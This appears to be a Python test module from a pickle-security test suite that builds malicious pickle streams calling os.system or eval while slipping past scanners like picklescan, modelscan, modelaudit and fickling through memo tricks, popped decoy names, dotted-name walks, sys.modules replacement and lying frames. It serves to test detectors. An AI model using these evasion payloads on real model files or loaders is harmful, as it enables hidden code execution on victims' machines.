"""Published ways past readers of pickles: streams that a reader takes for something else.

pickle runs each of them as it stands; who only looks at opcodes and their arguments, or at the
strings pushed last, sees a harmless name or none.
"""

import struct

from tests.attacks.assemble import OP, call, mapped, name, several, text
from tests.attacks.workshop import Workshop, attack


def put(index: int) -> bytes:
    return bytes(OP.LONG_BINPUT + struct.pack("<I", index))


def get(index: int) -> bytes:
    return bytes(OP.LONG_BINGET + struct.pack("<I", index))


def shell(shop: Workshop, system: bytes) -> bytes:
    """Call os.system, which `system` pushes, with nothing of ours left but its answer."""
    return shop.smuggle(call(system, text(shop.command)), protocol=4)


@attack(fires=True, opens=True)
def memo_by_two_opcodes(shop: Workshop) -> bytes:
    """picklescan 14: PUT and MEMOIZE side by side; a reader that counts one has other names."""
    spelt = text("os") + put(0) + text("system") + put(1)
    harmless = text("torch._utils") + OP.MEMOIZE + text("_rebuild_tensor_v2") + OP.MEMOIZE
    return shell(shop, spelt + harmless + OP.POP * 4 + get(0) + get(1) + OP.STACK_GLOBAL)


@attack(fires=True, opens=True)
def memo_overwritten(shop: Workshop) -> bytes:
    """modelscan 85: PUT stores what lies on the stack, not the last argument that was read."""
    store = text("os") + text("torch") + OP.POP + put(7) + OP.POP
    store += text("system") + text("load") + OP.POP + put(8) + OP.POP
    return shell(shop, store + get(7) + get(8) + OP.STACK_GLOBAL)


@attack(fires=True, opens=True)
def decoys_popped(shop: Workshop) -> bytes:
    """modelaudit 518: the strings pushed last are popped again before STACK_GLOBAL."""
    decoys = text("torch.nn") + text("Linear") + OP.POP * 2
    return shell(shop, text("os") + text("system") + decoys + OP.STACK_GLOBAL)


@attack(fires=True, opens=True)
def decoys_popped_by_mark(shop: Workshop) -> bytes:
    """POP_MARK, and POP of a mark, throw things away as well."""
    decoys = OP.MARK + text("torch.nn") + OP.POP_MARK + OP.MARK + OP.POP
    return shell(shop, text("os") + decoys + text("system") + decoys + OP.STACK_GLOBAL)


@attack(fires=True, opens=True)
def strings_doubled(shop: Workshop) -> bytes:
    """DUP: the name `code.code` is one string, twice on the stack."""
    module = text("os") + OP.DUP + OP.POP
    return shell(shop, module + text("system") + OP.DUP + OP.POP + OP.STACK_GLOBAL)


@attack(fires=True, opens=True)
def name_with_dots(shop: Workshop) -> bytes:
    """modelscan 89: from protocol 4 on a name may walk: fastai.imports, `os.system`."""
    return shell(shop, name("fastai.imports", "os.system"))


@attack(fires=True, opens=True)
def name_of_an_allowed_package(shop: Workshop) -> bytes:
    """torch.nn.functional is allowed to everybody, and holds importlib."""
    walk = name("torch.nn.functional", "importlib.import_module")
    return shell(shop, call(name("builtins", "getattr"), call(walk, text("os")), text("system")))


@attack(fires=True, opens=True)
def builtins_of_a_package(shop: Workshop) -> bytes:
    """modelscan 89: each module has `__builtins__`, a dict, and dict.get finds eval in it."""
    found = call(name("builtins", "dict.get"), name("numpy", "__builtins__"), text("eval"))
    return shop.smuggle(call(found, text(shop.code)), protocol=4)


@attack(fires=True, opens=True)
def build_on_a_function(shop: Workshop) -> bytes:
    """modelscan 85: BUILD sets attributes of numpy's own function, which later names walk over."""
    state = several(OP.NONE, mapped(a=name("fastai.imports", "os")))
    planted = name("numpy", "prod") + state + OP.BUILD + OP.POP
    return shop.smuggle(planted + call(name("numpy", "prod.a.system"), text(shop.command)), 4)


@attack(fires=True, opens=True)
def module_replaced(shop: Workshop) -> bytes:
    """picklescan's tests (sys_module_override): SETITEMS puts os in a harmless module's place."""
    modules, other = name("sys", "modules"), name("fastai.imports", "os")
    replaced = modules + OP.MARK + text("linecache") + other + OP.SETITEMS + OP.POP
    return shop.smuggle(replaced + call(name("linecache", "system"), text(shop.command)), 4)


@attack(fires=True, opens=True)
def float_before_the_call(shop: Workshop) -> bytes:
    """fickling 322: opcodes a reader does not know, FLOAT and BYTEARRAY8, hide what follows."""
    unknown = OP.FLOAT + b"1.0\n" + OP.POP + OP.BYTEARRAY8 + struct.pack("<Q", 1) + b"x" + OP.POP
    return shell(shop, unknown + name("os", "system"))


@attack(fires=True, opens=True)
def spelt_in_protocol_zero(shop: Workshop) -> bytes:
    """A name spelt in protocol 0, with a line of Python 2's text as the argument."""
    line = OP.STRING + repr(shop.command).encode() + b"\n"
    return shop.smuggle(OP.GLOBAL + b"posix\nsystem\n" + OP.MARK + line + OP.TUPLE + OP.REDUCE)


@attack(fires=True, opens=True)
def result_popped(shop: Workshop) -> bytes:
    """fickling: a call whose result is popped at once vanished from its view."""
    return shop.smuggle(call(name("os", "system"), text(shop.command)) + OP.POP + OP.NONE)


@attack(fires=True, opens=True)
def frame_that_lies(shop: Workshop) -> bytes:
    """A frame may say any length that is there; the opcodes in it need not end with it."""
    run = call(name("os", "system"), text(shop.command))
    return shop.smuggle(OP.FRAME + struct.pack("<Q", len(run)) + run, protocol=4)
